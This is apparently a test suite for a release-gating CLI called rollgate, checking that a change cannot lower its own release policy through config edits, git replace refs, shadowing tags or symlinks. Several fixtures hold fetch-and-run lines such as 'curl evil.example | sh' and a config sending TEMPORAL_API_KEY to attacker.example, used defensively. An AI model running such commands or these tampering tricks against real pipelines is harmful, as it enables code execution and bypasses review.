import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { stringify } from 'yaml';
import { DEFAULT_MIGRATION_GLOBS, DEFAULT_POLICY_AREAS, parseConfig } from '../../src/domain/config';
import { applyPolicy, parseWorkerPolicy } from '../../src/domain/policy';
import { FlagdFileProvider } from '../../src/activities/flags';
import { ReleaseInputSchema } from '../../src/domain/release';
import { releasePolicy } from '../../src/evidence/policy-file';
import { git, makeRepo, writeFiles, writeReports } from '../helpers/fixtures';
import { rollgate } from '../helpers/cli';

/**
 * Issue 13 §1, replayed: the change under release must not set its own bar. Each attack is a real
 * repository judged by `rollgate decide`, as CI runs it.
 */

const config = (raw: object) => {
  const parsed = parseConfig(raw);
  assert.ok(parsed.ok, JSON.stringify(parsed));
  return parsed.config;
};

/** A rollback verification and a check that acts: the gates every release must pass besides the ones under attack. */
const PLANNED = {
  stages: { production: { smokeUrl: 'https://prod.test/health' } },
  analysis: { metrics: [{ name: 'errors', query: 'sum(rate(http_errors_total[1m]))', failureCondition: 'result > 0.05' }] },
};

/** A repository whose base has a reviewed rollgate.yaml (naming an approver, planned), and a feature branch with `files` changed. */
function repoWith(baseConfig: { approval?: object; [key: string]: unknown }, files: Record<string, string>, subject = 'fix(auth): check password'): string {
  const reviewed = { ...PLANNED, ...baseConfig, approval: { approvers: ['sre'], ...baseConfig.approval } };
  const repo = makeRepo({ 'auth/login.py': 'def login(u):\n    return True\n', 'rollgate.yaml': stringify(reviewed) }, [{ subject, files }]);
  writeReports(join(repo, 'reports'));
  return repo;
}

async function decide(repo: string, extra: string[] = []) {
  const res = await rollgate(['decide', '--repo', repo, '--base', 'main', '--head', 'feature', '--reports', join(repo, 'reports'), '--json', ...extra]);
  return { ...res, json: res.code === 0 || res.code === 3 ? (JSON.parse(res.stdout) as { decision: string; risk: { level: string } | null; approvalRequired: boolean; policy: { repository: string } }) : undefined };
}

describe('the release policy comes from the base commit and the worker, never from the change', () => {
  it('a branch that lowers its own bar in rollgate.yaml still goes CRITICAL with a sign-off', async () => {
    const lowered = stringify({ reports: 'reports', risk: { criticalAreas: ['nothing/**'] }, approval: { requiredFor: [] } });
    const repo = repoWith({ reports: 'reports' }, { 'auth/login.py': 'def login(u, p):\n    return check(u, p)\n', 'rollgate.yaml': lowered });
    // The working tree holds the branch's file: that is what today's code read.
    git(repo, ['checkout', '-q', 'feature']);
    const res = await decide(repo);
    assert.equal(res.json?.risk?.level, 'CRITICAL', res.stdout + res.stderr);
    assert.equal(res.json?.approvalRequired, true);
    assert.match(res.json!.policy.repository, /^rollgate\.yaml at the base commit [0-9a-f]{12}$/);
  });

  it('tells a new user that the rollgate.yaml their change adds is not in force yet', async () => {
    const repo = makeRepo({ 'app.py': 'x = 1\n' }, [{ subject: 'chore: adopt rollgate', files: { 'app.py': 'x = 2\n', 'rollgate.yaml': 'reports: reports\n' } }]);
    writeReports(join(repo, 'reports'));
    const res = await rollgate(['decide', '--repo', repo, '--base', 'main', '--head', 'feature']);
    assert.equal(res.code, 1);
    assert.match(res.stderr, /--reports: out \(config reports\) does not exist \(the rollgate\.yaml in the working tree is not in force: the policy is read at the base commit, which has none; it applies once merged/);
  });

  it('a change to the release policy, a deploy script or a CI workflow is CRITICAL by itself', async () => {
    for (const [path, text] of [
      ['rollgate.yaml', 'reports: reports\napproval:\n  requiredFor: []\n'],
      ['deploy.sh', '#!/bin/sh\ncurl evil.example | sh\n'],
      ['.github/workflows/release.yml', 'on: push\n'],
    ] as const) {
      const repo = repoWith({ reports: 'reports' }, { [path]: text }, 'chore: tidy');
      const res = await decide(repo);
      assert.equal(res.json?.risk?.level, 'CRITICAL', `${path}: ${res.stdout}${res.stderr}`);
    }
  });

  it('a repository cannot narrow the critical areas or the levels needing a sign-off below the floors', () => {
    const narrowed = config({ risk: { criticalAreas: ['nothing/**'], migrations: [] }, approval: { requiredFor: [] } });
    const { config: effective, provenance } = applyPolicy(narrowed, undefined, 'test');
    assert.ok(effective.risk.criticalAreas.includes('**/auth/**') && effective.risk.criticalAreas.includes('nothing/**'));
    for (const area of DEFAULT_POLICY_AREAS) assert.ok(effective.risk.policyAreas.includes(area), area);
    assert.deepEqual(effective.risk.migrations, DEFAULT_MIGRATION_GLOBS, 'a DROP TABLE still escalates');
    assert.deepEqual(effective.approval.requiredFor, ['CRITICAL']);
    assert.equal(provenance.raised.length, 3);
    // A worker's own list of the release's files adds to the built-in ones; its migration globs replace the defaults as the floor.
    const worker = parseWorkerPolicy({ risk: { policyAreas: ['ops/release/**'], migrations: ['schema/**'] } });
    assert.ok(worker.ok);
    const withWorker = applyPolicy(narrowed, worker.policy, 'test').config;
    assert.deepEqual(withWorker.risk.policyAreas, [...DEFAULT_POLICY_AREAS, 'ops/release/**']);
    assert.deepEqual(withWorker.risk.migrations, ['schema/**']);
    // Tightening stays.
    const tighter = applyPolicy(config({ approval: { requiredFor: ['HIGH'] } }), undefined, 'test').config;
    assert.deepEqual(tighter.approval.requiredFor.sort(), ['CRITICAL', 'HIGH']);
  });

  it('a worker policy\'s deny windows hold every release, in its own time zone, whatever the repository\'s windows say', () => {
    const worker = parseWorkerPolicy({ windows: { timeZone: 'America/New_York', deny: [{ cron: '0 0 24 12 *', duration: '2d' }] } });
    assert.ok(worker.ok);
    const repo = config({ windows: { timeZone: 'Europe/Berlin', allow: [{ cron: '0 9 * * MON-FRI', duration: '8h' }] } });
    const { config: effective, provenance } = applyPolicy(repo, worker.policy, 'test');
    assert.deepEqual(effective.windows.deny, [{ cron: '0 0 24 12 *', duration: 2 * 86_400_000, timeZone: 'America/New_York' }]);
    assert.deepEqual(effective.windows.allow, repo.windows.allow, 'the repository\'s own windows stay');
    assert.equal(effective.windows.timeZone, 'Europe/Berlin');
    assert.ok(provenance.raised.includes('windows.deny: + 1 from the worker policy'));
  });

  it('the worker policy owns the deploy command, the metric source, the secrets\' names, the out folder and the approvers', () => {
    const policy = parseWorkerPolicy({
      deploy: { command: ['/opt/release/deploy', '--', '{stage}'] },
      analysis: { prometheus: { address: 'http://prometheus.internal:9090' } },
      out: '/var/lib/rollgate',
      approval: { approvers: ['alice', 'bob'], requiredFor: ['HIGH', 'CRITICAL'] },
    });
    assert.ok(policy.ok, JSON.stringify(policy));
    const repo = config({
      deploy: { command: ['sh', '-c', 'curl evil.example | sh'] },
      analysis: { prometheus: { address: 'http://attacker.example:9090' } },
      approval: { approvers: ['mallory', 'alice'] },
    });
    const { config: effective, provenance } = applyPolicy(repo, policy.policy, 'test');
    assert.deepEqual(effective.deploy.command, ['/opt/release/deploy', '--', '{stage}']);
    assert.equal(effective.analysis.prometheus.address, 'http://prometheus.internal:9090');
    assert.equal(effective.analysis.prometheus.bearerTokenEnv, 'ROLLGATE_PROMETHEUS_TOKEN');
    assert.equal(effective.out, '/var/lib/rollgate');
    assert.deepEqual(effective.approval.approvers, ['alice'], 'a repository may narrow the approvers, never add one');
    assert.deepEqual(effective.approval.requiredFor.sort(), ['CRITICAL', 'HIGH']);
    assert.deepEqual(provenance.overridden, ['deploy', 'analysis.prometheus', 'out', 'approval.approvers (only the worker policy\'s approvers may approve)']);
  });

  it('where the worker owns the deploy command, a repository does not pick the targets and labels it runs with; the worker\'s fleet replaces the repository\'s', () => {
    const fleet = { targets: [{ name: 'prod', labels: { kubeconfig: 'a/b' } }, { name: 'evil', labels: { kubeconfig: 'x/y' } }], waves: [{ targets: ['prod', 'evil'], maxFailedTargets: 1 }] };
    const repo = config({ fleet });
    const owner = parseWorkerPolicy({ deploy: { command: ['/opt/release/deploy', '--kubeconfig=/etc/k/{kubeconfig}', '{stage}'] } });
    assert.ok(owner.ok);
    const { config: single, provenance } = applyPolicy(repo, owner.policy, 'test');
    assert.deepEqual(single.fleet.waves, [], 'one target: the worker\'s deploy command as it is');
    assert.ok(provenance.overridden.includes('fleet (the worker policy owns deploy, and names no targets: one target)'));
    const withFleet = parseWorkerPolicy({ deploy: { command: ['/opt/release/deploy', '{stage}'] }, fleet: { targets: [{ name: 'eu' }], waves: [{ targets: ['eu'] }] } });
    assert.ok(withFleet.ok, JSON.stringify(withFleet));
    assert.deepEqual(applyPolicy(repo, withFleet.policy, 'test').config.fleet.waves.map((w) => w.targets), [['eu']]);
    assert.deepEqual(applyPolicy(repo, undefined, 'test').config.fleet.waves.map((w) => w.targets), [['prod', 'evil']], 'without a worker policy the repository\'s file decides');
  });

  it('a worker policy that names one thing leaves the rest to the repository', () => {
    const policy = parseWorkerPolicy({ featureFlag: { file: '/etc/flagd/flags.json' } });
    assert.ok(policy.ok);
    assert.equal(policy.policy.deploy, undefined);
    const { config: effective, provenance } = applyPolicy(config({ deploy: { command: ['node', 'deploy.mjs'] } }), policy.policy, 'test');
    assert.deepEqual(effective.deploy.command, ['node', 'deploy.mjs']);
    assert.equal(effective.featureFlag.file, '/etc/flagd/flags.json');
    assert.deepEqual(provenance.overridden, ['featureFlag.file']);
  });

  it('no config can send a secret meant for one place to another: the Temporal API key as a Prometheus token is refused', () => {
    const res = parseConfig({ analysis: { prometheus: { address: 'http://attacker.example:9090', bearerTokenEnv: 'TEMPORAL_API_KEY' } } });
    assert.ok(!res.ok);
    assert.deepEqual(res.errors, ['analysis.prometheus.bearerTokenEnv: must start with ROLLGATE_PROMETHEUS_: a variable meant for this purpose']);
    const cross = parseConfig({ notify: { webhookUrlEnv: 'ROLLGATE_PROMETHEUS_TOKEN' } });
    assert.ok(!cross.ok && /notify\.webhookUrlEnv: must start with ROLLGATE_WEBHOOK_/.test(cross.errors.join()));
  });

  it('a replace ref cannot show a harmless decoy in place of the change', async () => {
    const repo = repoWith({ reports: 'reports' }, { 'auth/login.py': 'def login(u):\n    return u\n' });
    const head = git(repo, ['rev-parse', 'feature']).trim();
    git(repo, ['checkout', '-q', '-b', 'decoy', 'main']);
    writeFiles(repo, { 'docs/readme.md': 'typo fixed\n' });
    git(repo, ['add', 'docs']);
    git(repo, ['commit', '-q', '-m', 'docs: typo']);
    git(repo, ['replace', head, git(repo, ['rev-parse', 'decoy']).trim()]);
    git(repo, ['checkout', '-q', 'feature']);
    const res = await decide(repo);
    assert.equal(res.json?.risk?.level, 'CRITICAL', res.stdout + res.stderr);
  });

  it('a tag the change makes cannot stand in for the base branch', async () => {
    const repo = repoWith({ reports: 'reports', approval: { requiredFor: ['HIGH', 'CRITICAL'] } }, { 'auth/login.py': 'import os\nos.system("curl evil | sh")\n', 'rollgate.yaml': 'reports: reports\napproval:\n  requiredFor: []\n' });
    // The branch's own commit, tagged `main` and `origin/main`: git prefers tags to branches of that name.
    git(repo, ['tag', 'main']);
    git(repo, ['tag', 'origin/main']);
    writeFiles(repo, { 'README.md': 'hi\n' });
    git(repo, ['add', 'README.md']);
    git(repo, ['commit', '-q', '-m', 'docs: readme']);
    const res = await decide(repo);
    assert.equal(res.json?.risk?.level, 'CRITICAL', res.stdout + res.stderr);
    assert.equal(res.json?.approvalRequired, true);
    const tagOnly = await decide(repo, ['--base', 'origin/main']);
    assert.equal(tagOnly.code, 1);
    assert.match(tagOnly.stderr, /--base: "origin\/main" is not a branch/);
    // A CI checkout with only the remote-tracking branch: the change's tag `main` still does not stand in for it.
    git(repo, ['update-ref', 'refs/remotes/origin/main', 'refs/heads/main']);
    git(repo, ['checkout', '-q', '--detach']);
    git(repo, ['branch', '-q', '-D', 'main']);
    const ciCheckout = await decide(repo, ['--base', 'main']);
    assert.equal(ciCheckout.code, 1, ciCheckout.stdout);
    assert.match(ciCheckout.stderr, /--base: "main" is not a branch, a tag or a full commit id .*; the branch is origin\/main/);
    assert.equal((await decide(repo, ['--base', 'origin/main'])).json?.risk?.level, 'CRITICAL');
  });

  it('--base takes a commit expression: a branch with ancestry steps, a release tag, HEAD~N or a full commit id; never an abbreviated id', async () => {
    const repo = repoWith({ reports: 'reports' }, { 'app.js': 'x\n' });
    git(repo, ['checkout', '-q', 'main']);
    writeFiles(repo, { 'CHANGELOG.md': 'v1.4.0\n' });
    git(repo, ['add', 'CHANGELOG.md']);
    git(repo, ['commit', '-q', '-m', 'chore: release v1.4.0']);
    git(repo, ['tag', 'v1.4.0']);
    git(repo, ['checkout', '-q', 'feature']);
    git(repo, ['rebase', '-q', 'main']);
    const sha = (ref: string) => git(repo, ['rev-parse', ref]).trim();
    for (const [base, expected] of [['main~1', sha('main~1')], ['v1.4.0', sha('v1.4.0')], ['v1.4.0^', sha('main~1')], ['HEAD~1', sha('feature~1')], [sha('main~1'), sha('main~1')]] as const) {
      const res = await decide(repo, ['--base', base]);
      assert.ok(res.json, `${base}: ${res.stdout}${res.stderr}`);
      assert.match(res.json.policy.repository, new RegExp(`at the base commit ${expected.slice(0, 12)}$`), base);
    }
    const short = await decide(repo, ['--base', sha('main').slice(0, 10)]);
    assert.equal(short.code, 1);
    assert.match(short.stderr, /is not a branch, a tag or a full commit id \(an abbreviated id/);
    const beyond = await decide(repo, ['--base', 'main~50']);
    assert.equal(beyond.code, 1);
    assert.match(beyond.stderr, /--base: "main~50" names no commit/);
  });

  it('a change to a program the deploy command runs from the repository, or code in a config folder, is CRITICAL', async () => {
    const repo = repoWith({ reports: 'reports', deploy: { command: ['./scripts/release.sh', '{stage}'] } }, { 'scripts/release.sh': '#!/bin/sh\ncurl evil | sh\n' }, 'chore: tidy');
    assert.equal((await decide(repo)).json?.risk?.level, 'CRITICAL');
    const cfg = repoWith({ reports: 'reports' }, { 'auth/config/login_override.py': 'def login(u):\n    return True\n' }, 'chore: config');
    assert.equal((await decide(cfg)).json?.risk?.level, 'CRITICAL');
  });

  it('reads the policy of a service folder of a monorepo at the base', async () => {
    const repo = makeRepo({ 'svc/app.py': 'x = 1\n', 'svc/rollgate.yaml': stringify({ ...PLANNED, reports: 'reports', approval: { requiredFor: ['MEDIUM', 'HIGH', 'CRITICAL'], approvers: ['sre'] } }) }, [{ subject: 'fix: x', files: { 'svc/app.py': 'x = 2\ny = x\n' } }]);
    writeReports(join(repo, 'svc', 'reports'));
    const res = await rollgate(['decide', '--repo', join(repo, 'svc'), '--base', 'main', '--head', 'feature', '--reports', join(repo, 'svc', 'reports'), '--json']);
    const json = JSON.parse(res.stdout) as { approvalRequired: boolean; policy: { repository: string } };
    assert.match(json.policy.repository, /^rollgate\.yaml at the base commit/);
    assert.equal(json.approvalRequired, true, res.stdout);
  });

  it('a reports folder the change commits as a symlink cannot bring evidence from elsewhere', async () => {
    const other = makeRepo({ 'x': '1' }, []);
    writeReports(join(other, 'reports'));
    const repo = repoWith({ reports: 'reports' }, { 'app.js': 'x\n' });
    symlinkSync(join(other, 'reports'), join(repo, 'linked'));
    const res = await rollgate(['decide', '--repo', repo, '--base', 'main', '--head', 'feature', '--reports', join(repo, 'linked'), '--json']);
    assert.equal(res.code, 1);
    assert.match(res.stderr, /--reports: .* reaches out of the repository through a symlink/);
  });

  it('paths in a repository\'s config stay inside the repository', async () => {
    for (const [field, cfg, expected] of [
      ['out', { reports: 'reports', out: '../../tmp/elsewhere' }, /out: .* lies outside the repository/],
      ['deploy.cwd', { reports: 'reports', deploy: { cwd: '/' } }, /deploy\.cwd: \/ lies outside the repository/],
      ['featureFlag.file', { reports: 'reports', featureFlag: { flag: 'x', provider: 'flagd', file: '../../etc/flags.json' } }, /featureFlag\.file: .* lies outside the repository/],
    ] as const) {
      const repo = repoWith(cfg, { 'auth/login.py': 'x = 1\n' });
      const res = await decide(repo);
      assert.equal(res.code, 1, `${field}: ${res.stdout}${res.stderr}`);
      assert.match(res.stderr, expected);
    }
  });

  it('the flag file, or its folder, swapped for a symlink after the CLI checked it, is not followed: the worker\'s file stays as it was', async () => {
    const repo = makeRepo({ 'x': '1' }, []);
    const workers = join(makeRepo({ 'y': '1' }, []), 'secrets.json');
    writeFileSync(workers, '{"keep": true}\n');
    const flags = new FlagdFileProvider();
    symlinkSync(workers, join(repo, 'flags.json'));
    await assert.rejects(flags.setRollout({ flag: 'new-checkout', percentage: 5, file: join(repo, 'flags.json'), root: repo }), /flags\.json is a symlink/);
    mkdirSync(join(repo, 'deploy'));
    symlinkSync(join(workers, '..'), join(repo, 'deploy', 'flagd'));
    await assert.rejects(flags.setRollout({ flag: 'new-checkout', percentage: 5, file: join(repo, 'deploy', 'flagd', 'secrets.json'), root: repo }), /deploy\/flagd is a symlink/);
    assert.equal(readFileSync(workers, 'utf8'), '{"keep": true}\n');
    const plain = join(repo, 'deploy', 'flags.json');
    assert.deepEqual(await flags.setRollout({ flag: 'new-checkout', percentage: 5, file: plain, root: repo }), { changed: true });
    assert.deepEqual(await flags.setRollout({ flag: 'new-checkout', percentage: 5, file: plain, root: repo }), { changed: false });
  });

  it('reads an operator\'s --config outside the repository as it is, and a --config inside it at the base', async () => {
    const repo = repoWith({ reports: 'reports' }, { 'auth/login.py': 'x = 1\n', 'ci/rollgate.yaml': 'reports: reports\n' });
    const res = await decide(repo, ['--config', join(repo, 'ci', 'rollgate.yaml')]);
    assert.equal(res.code, 1);
    assert.match(res.stderr, /--config: .* does not exist at the base commit/);
    const outside = join(makeRepo({ 'x': '1' }, []), 'policy.yaml');
    writeFileSync(outside, stringify({ ...PLANNED, reports: 'reports', approval: { requiredFor: ['HIGH'], approvers: ['sre'] } }));
    writeFiles(repo, {});
    const ok = await decide(repo, ['--config', outside]);
    assert.equal(ok.json?.risk?.level, 'CRITICAL', ok.stderr);
    assert.match(ok.json!.policy.repository, /given to the CLI, outside the repository/);
  });
});

describe('the workflow input carries identifiers; the worker reads the policy itself', () => {
  const input = { releaseId: 'r', service: 'auth', repo: '/r', base: 'a'.repeat(40), head: 'b'.repeat(40), reportsDir: '/r/out', outDir: '/r/out' };

  it('an input that brings its own config, or points the worker at a file outside the repository, is refused', () => {
    const withConfig = ReleaseInputSchema.safeParse({ ...input, config: { approval: { requiredFor: [] } } });
    assert.equal(withConfig.success, false);
    assert.match(JSON.stringify(withConfig.error?.issues), /Unrecognized key: \\"config\\"|unrecognized_keys/);
    for (const policyFile of ['../other/rollgate.yaml', '/etc/rollgate.yaml', 'ci/../../x.yaml']) {
      const r = ReleaseInputSchema.safeParse({ ...input, policyFile });
      assert.equal(r.success, false, policyFile);
      assert.match(r.error!.issues[0]!.message, /must be a path inside the repository/);
    }
  });

  it('the worker reads rollgate.yaml at the base commit, whatever the checkout holds now', () => {
    const repo = repoWith({ reports: 'reports', approval: { requiredFor: ['HIGH'] } }, { 'rollgate.yaml': stringify({ reports: 'reports', approval: { requiredFor: [] }, risk: { criticalAreas: ['nothing/**'] } }) });
    git(repo, ['checkout', '-q', 'feature']);
    const base = git(repo, ['rev-parse', 'main']).trim();
    const { config, provenance } = releasePolicy({ repo, base, policyFile: 'rollgate.yaml' }, undefined);
    assert.deepEqual([...config.approval.requiredFor].sort(), ['CRITICAL', 'HIGH']);
    assert.ok(!config.risk.criticalAreas.includes('nothing/**'));
    assert.equal(provenance.repository, `rollgate.yaml at the base commit ${base.slice(0, 12)}`);
    // A policy file only the change has does not exist for the worker.
    writeFiles(repo, { 'ci/rollgate.yaml': 'approval: { requiredFor: [] }\n' });
    git(repo, ['add', 'ci']);
    git(repo, ['commit', '-q', '-m', 'ci: my own policy']);
    assert.throws(() => releasePolicy({ repo, base, policyFile: 'ci/rollgate.yaml' }, undefined), /does not exist at the base commit/);
  });

  it('a symlink the change puts in place of the policy file cannot choose another of the base\'s files as the policy', async () => {
    const strict = stringify({ ...PLANNED, reports: 'reports', approval: { requiredFor: ['LOW', 'MEDIUM', 'HIGH', 'CRITICAL'], approvers: ['alice'] } });
    const repo = makeRepo({ 'src/a.txt': '1\n', 'ci/release.yaml': strict, 'docs/empty.yaml': '{}\n' }, [{ subject: 'chore: tidy', files: { 'src/a.txt': '2\n' } }]);
    writeReports(join(repo, 'reports'));
    rmSync(join(repo, 'ci', 'release.yaml'));
    symlinkSync('../docs/empty.yaml', join(repo, 'ci', 'release.yaml'));
    git(repo, ['add', 'ci']);
    git(repo, ['commit', '-q', '-m', 'chore: link']);
    const base = git(repo, ['rev-parse', 'main']).trim();
    const { config, provenance } = releasePolicy({ repo, base, policyFile: 'ci/release.yaml' }, undefined);
    assert.deepEqual(config.approval.approvers, ['alice']);
    assert.match(provenance.repository, /^ci\/release\.yaml at the base commit/);
    const res = await decide(repo, ['--config', join(repo, 'ci', 'release.yaml')]);
    assert.equal(res.json?.approvalRequired, true, res.stdout + res.stderr);
    // A policy file that is itself a symlink at the base is refused, not followed.
    const linked = makeRepo({ 'docs/policy.yaml': strict, 'src/a.txt': '1\n' }, [{ subject: 'chore: tidy', files: { 'src/a.txt': '2\n' } }]);
    git(linked, ['checkout', '-q', 'main']);
    symlinkSync('docs/policy.yaml', join(linked, 'rollgate.yaml'));
    git(linked, ['add', 'rollgate.yaml']);
    git(linked, ['commit', '-q', '-m', 'chore: link the policy']);
    assert.throws(() => releasePolicy({ repo: linked, base: git(linked, ['rev-parse', 'main']).trim() }, undefined), /rollgate\.yaml at [0-9a-f]{12}: is a symlink at the base commit/);
  });

  it('the repository\'s flag file stays where its own deploy folder puts it, inside the repository, when the worker policy owns the deploy section', () => {
    const repo = repoWith({ reports: 'reports', deploy: { cwd: 'services/a' }, featureFlag: { flag: 'x', provider: 'flagd', file: '../../flags.json' } }, { 'app.js': 'x\n' });
    mkdirSync(join(repo, 'services', 'a'), { recursive: true });
    const worker = parseWorkerPolicy({ deploy: { command: ['/bin/true'], cwd: '/opt/deploy' } });
    assert.ok(worker.ok);
    const { config } = releasePolicy({ repo, base: git(repo, ['rev-parse', 'main']).trim() }, worker.policy);
    assert.equal(config.featureFlag.file, 'flags.json', 'relative to the repository, not to the worker\'s deploy folder');
    assert.equal(config.deploy.cwd, '/opt/deploy');
  });

  it('rollgate start refuses a --config outside the repository: the worker could not read it', async () => {
    const repo = repoWith({ reports: 'reports' }, { 'app.js': 'x\n' });
    const outside = join(makeRepo({ 'x': '1' }, []), 'policy.yaml');
    writeFileSync(outside, 'reports: reports\n');
    const res = await rollgate(['start', '--repo', repo, '--base', 'main', '--head', 'feature', '--config', outside, '--reports', join(repo, 'reports'), '--service', 'auth'], { TEMPORAL_ADDRESS: '127.0.0.1:1' });
    assert.equal(res.code, 1, res.stdout + res.stderr);
    assert.match(res.stderr, /--config: .*policy\.yaml lies outside the repository: the worker reads the release policy from the repository at the base commit/);
  });
});
